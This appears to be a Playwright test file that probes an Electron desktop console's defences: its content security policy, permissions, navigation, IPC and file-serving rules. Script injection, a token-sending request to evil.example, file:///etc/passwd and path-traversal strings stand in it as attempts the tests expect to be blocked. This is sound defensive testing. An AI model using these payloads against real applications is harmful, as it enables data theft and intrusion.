import { site } from '@olea/shared/site/facts';
import type { Page } from '@playwright/test';
import { listen } from '../../../scripts/site-server/listen.ts';
import { describeDesktop, expect, signIn, test } from './desktopTest.ts';

const EVIL = 'https://evil.example/';
const SITE = `https://${site.productionDomains[0]}/`;
/** Chromium's log messages about attempts that these tests expect it to block. */
const REFUSED =
  /Not allowed to load|Permissions policy|Content Security Policy|Failed to load resource|Mixed Content|CORS policy|Refused|violates|blocked/i;

/**
 * Tests Electron's security checklist as an attacker who can already run scripts in the page. Most tests include a
 * control: a similar action that must succeed.
 */
describeDesktop('security checklist', (driver) => {
  test.beforeEach(({ app }) => app.console.expect(REFUSED));

  test('attacker in the page finds no Node or Electron API and no bridge in frames', async ({ app, backend }) => {
    const { page } = app;
    const found = await page.evaluate(() => {
      const names = ['require', 'process', 'Buffer', 'module', 'global', 'ipcRenderer', 'electron', '__fakeInvoke'];
      try {
        Reflect.set(window.desktop, 'start', () => 'replaced');
        Reflect.set(window, 'desktop', {});
      } catch {
        // An error also counts as a failed attempt.
      }
      return {
        leaked: names.filter((name) => name in window),
        kinds: Object.values(window.desktop).map((verb) => typeof verb),
      };
    });
    expect(found.leaked).toEqual([]);
    expect(new Set(found.kinds)).toEqual(new Set(['function']));
    // Control: the original bridge still works.
    expect(await page.evaluate(() => window.desktop.start())).toMatchObject({ ok: true });

    const violations = await watchViolations(page);
    await inject(page, { tag: 'iframe', attributes: { src: `${backend.origin}/robots.txt` } });
    await inject(page, { tag: 'iframe', attributes: { src: '/' } });
    await expect.poll(violations).toEqual(['frame-src', 'frame-src']);
    await inject(page, { tag: 'iframe', attributes: { srcdoc: '<p>inside' } });
    const [, ...frames] = page.frames();
    const bridges = frames.map((frame) => frame.evaluate(() => typeof Reflect.get(window, 'desktop')));
    expect(new Set(await Promise.all(bridges))).toEqual(new Set(['undefined']));
  });

  test('attacker in the page cannot post a form or remove the lock without the password', async ({ app, backend }) => {
    // Control: the console's own form works, because it sends its data with `fetch`.
    await signIn(app);
    await app.power('lock-screen');
    await expect(app.page.getByRole('button', { name: 'Unlock' })).toBeVisible();
    const attempts = await app.page.evaluate(async () => [
      await window.desktop.releaseLock(),
      await window.desktop.readStore('session', 'console-lock'),
      await window.desktop.removeFromStore('session', 'console-lock'),
      await window.desktop.writeStore('session', 'console-lock', ''),
    ]);
    expect(attempts).toEqual(Array(4).fill({ ok: false, code: 'forbidden' }));
    await app.page.reload();
    await expect(app.page.getByRole('button', { name: 'Unlock' })).toBeVisible();

    // Run this last, because Playwright waits forever for the navigation of the blocked form.
    const violations = await watchViolations(app.page);
    await app.page.evaluate((action) => {
      const form = Object.assign(document.createElement('form'), { action, method: 'post' });
      document.body.append(form);
      form.submit();
    }, `${backend.origin}/anything`);
    await expect.poll(violations).toContain('form-action');
  });

  // Electron and the fake grant every permission that no handler denies.
  test('attacker in the page gets no permission for location, notifications, camera or clipboard reading', async ({
    app,
  }) => {
    const granted = await app.page.evaluate(async () => {
      const { geolocation, mediaDevices, clipboard } = navigator;
      const isGranted = (asked: Promise<unknown>) => asked.then(() => true).catch(() => false);
      return [
        await isGranted(new Promise((done, fail) => geolocation.getCurrentPosition(done, fail))),
        (await Notification.requestPermission()) !== 'denied',
        await isGranted(mediaDevices.getUserMedia({ video: true })),
        await isGranted(clipboard.readText()),
      ];
    });
    expect(granted).toEqual([false, false, false, false]);
  });

  test('attacker in the page can run only the console’s own script files', async ({ app, backend }) => {
    const { page } = app;
    const violations = await watchViolations(page);
    const isPwned = () => page.evaluate(() => 'pwned' in window);

    await inject(page, { tag: 'script', text: 'window.pwned = 1' });
    await inject(page, { tag: 'img', attributes: { src: '/none.png', onerror: 'window.pwned = 1' } });
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), {
        href: 'javascript:window.pwned = 1',
        textContent: 'x',
      });
      document.body.append(link);
      link.click();
    });
    expect(await runTexts(page)).toEqual([]);
    for (const src of [`${backend.origin}/forms/embed/v2.js`, `${EVIL}x.js`, 'data:text/javascript,window.pwned=1'])
      expect(await inject(page, { tag: 'script', attributes: { src } }), src).toBe('rejected');
    expect(await isPwned()).toBe(false);
    const seen = await violations();
    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src']) expect(seen).toContain(directive);

    // Control: the page can load the console's own script. Running it twice would mount a second console, so only preload it.
    const own = await page.evaluate(() => document.querySelector('script[type=module]')?.getAttribute('src') ?? '');
    const preload = (href: string) => inject(page, { tag: 'link', attributes: { rel: 'modulepreload', href } });
    expect(await preload(`${own}?again`)).toBe('loaded');
    expect(await preload(`${EVIL}x.js`)).toBe('rejected');
    expect(await (await fetch(`${backend.origin}/forms/embed/v2.js`)).text()).toContain('hbspt');
  });

  test('attacker in the page cannot load images over HTTP, and cannot load styles from or send data to a foreign host', async ({
    app,
    backend,
  }) => {
    const { page } = app;
    const violations = await watchViolations(page);
    const asked: string[] = [];
    const foreign = await listen((request, response) => {
      if (request.headers['user-agent']?.includes('Chrome')) asked.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end('x');
    });
    const call = (url: string) => page.evaluate((address) => fetch(address).then(() => 'answered', String), url);
    const picture = { tag: 'img', attributes: { src: `${backend.origin}/apple-touch-icon.png` } };
    const sheet = { tag: 'link', attributes: { rel: 'stylesheet', href: `${foreign.origin}/x.css` } };
    for (const part of [picture, sheet]) expect(await inject(page, part), part.tag).toBe('rejected');
    expect(await call(foreign.origin)).toBe('TypeError: Failed to fetch');
    expect(await call(`${EVIL}collect?token=x`)).toBe('TypeError: Failed to fetch');
    await page.evaluate((url) => void navigator.sendBeacon(url, 'x'), foreign.origin);
    expect(asked).toEqual([]);
    expect(await violations()).toEqual(expect.arrayContaining(['img-src', 'style-src-elem', 'connect-src']));
    // Controls: the picture exists, the foreign server responds to other clients, and the page reaches its backend.
    expect((await fetch(picture.attributes.src)).headers.get('content-type')).toContain('image/png');
    expect((await fetch(foreign.origin)).status).toBe(200);
    expect(await call(`${backend.origin}/auth/v1/health`)).toBe('answered');
    await foreign.close();
  });

  test('attacker in the page cannot open a window, and a page of the site opens in the system browser', async ({
    app,
  }) => {
    for (const address of [EVIL, 'file:///etc/passwd', 'about:blank', 'data:text/html,hello'])
      await app.page.evaluate((url) => void window.open(url, '_blank'), address);
    await app.page.evaluate((url) => {
      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank', textContent: 'x' });
      document.body.append(link);
      link.click();
    }, EVIL);
    await expect.poll(() => app.page.context().pages().length).toBe(1);
    expect((await app.inspect()).opened).toEqual([]);
    // Control: the same call with an allowed URL opens the system browser instead of a window.
    await app.page.evaluate((url) => void window.open(url, '_blank'), SITE);
    await expect.poll(async () => (await app.inspect()).opened).toEqual([SITE]);
    await expect.poll(() => app.page.context().pages().length).toBe(1);
  });

  test('attacker in the page cannot navigate away from the console', async ({ app, desktop }) => {
    await expect(app.page.getByRole('button', { name: 'Sign in' })).toBeVisible();
    const here = app.page.url();
    for (const address of [EVIL, 'file:///etc/passwd', `${desktop.driver.consoleOrigin}/assets/`]) {
      await app.page.evaluate((url) => window.location.assign(url), address).catch(() => undefined);
      await app.page.waitForTimeout(200);
      expect(app.page.url()).toBe(here);
    }
    await inject(app.page, { tag: 'meta', attributes: { 'http-equiv': 'refresh', content: `0;url=${EVIL}` } });
    expect(app.page.url()).toBe(here);
    expect((await app.inspect()).opened).toEqual([]);
    // Control: navigation inside the console works.
    await app.page.evaluate(() => window.location.assign('/simple-admin'));
    await expect(app.page).toHaveURL(`${desktop.driver.consoleOrigin}/simple-admin`);
    await expect(app.page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  });

  test('attacker in the page cannot read files outside the served folder or forge IPC calls', async ({ app }) => {
    const fromPage = await app.page.evaluate(
      (all) => Promise.all(all.map(async (path) => (await fetch(path)).status)),
      ['/..%2fmain/index.js', '/assets/..%2f..%2fpreload%2findex.cjs'],
    );
    expect(fromPage).toEqual([404, 404]);
    // Control: a file inside the folder is served.
    expect((await app.fetchConsole('app://console/index.html')).body).toContain('<title>');

    const malformed = await app.page.evaluate(() => window.desktop.readStore('session', '../../etc/passwd'));
    expect(malformed).toEqual({ ok: false, code: 'invalid' });
    const open = (url: string) => app.page.evaluate((address) => window.desktop.openExternal(address), url);
    expect(await open(EVIL)).toEqual({ ok: false, code: 'forbidden' });
    const callStore = (url: string, top: boolean) => app.invokeFrom({ url, top }, 'store:get', ['session', 'nothing']);
    for (const [url, top] of [
      [EVIL, true],
      ['app://console/', false],
    ] as const)
      expect(await callStore(url, top)).toEqual({ ok: false, code: 'forbidden' });
    // Controls: calls from the console's own page succeed.
    expect(await callStore('app://console/', true)).toEqual({ ok: true, value: null });
    expect(await open(SITE)).toEqual({ ok: true, value: null });
    expect((await app.inspect()).opened).toEqual([SITE]);
  });

  if (driver !== 'fake') return;

  test('attacker in the page cannot download a file', async ({ app: { page } }) => {
    const started = page.waitForEvent('download');
    await page.evaluate(() => {
      const href = URL.createObjectURL(new Blob(['x']));
      Object.assign(document.createElement('a'), { href, download: 'x.exe' }).click();
    });
    expect(await (await started).failure()).not.toBeNull();
  });
});

/** Records the CSP directives that the page violates from now on. Returns a function that reads them. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen: string[] = [];
    Reflect.set(window, 'seenViolations', seen);
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  });
  return () => page.evaluate(() => Reflect.get(window, 'seenViolations') as string[]);
}

/** Injects an element into the page. Returns `loaded`, `rejected` or, after 1.5 seconds, `nothing happened`. */
async function inject(page: Page, make: { tag: string; attributes?: Record<string, string>; text?: string }) {
  return page.evaluate(
    ({ tag, attributes = {}, text = '' }) =>
      new Promise<'loaded' | 'rejected' | 'nothing happened'>((resolve) => {
        const element = document.createElement(tag);
        element.addEventListener('load', () => resolve('loaded'));
        element.addEventListener('error', () => resolve('rejected'));
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        element.textContent = text;
        document.body.append(element);
        setTimeout(() => resolve('nothing happened'), 1500);
      }),
    make,
  );
}

/** Tries three ways to run a string as code and returns those that worked. Uses timers, because CSP ignores Playwright's own code. */
function runTexts(page: Page): Promise<string[]> {
  return page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const isPwned: string[] = [];
        Object.assign(window, { ran: isPwned });
        // biome-ignore lint/security/noGlobalEval: this is the attack
        setTimeout(() => globalThis.eval('ran.push("eval")'));
        setTimeout(() => new Function('ran.push("function")')());
        setTimeout(() => window.setTimeout('ran.push("timer")', 0));
        setTimeout(() => resolve(isPwned), 300);
      }),
  );
}
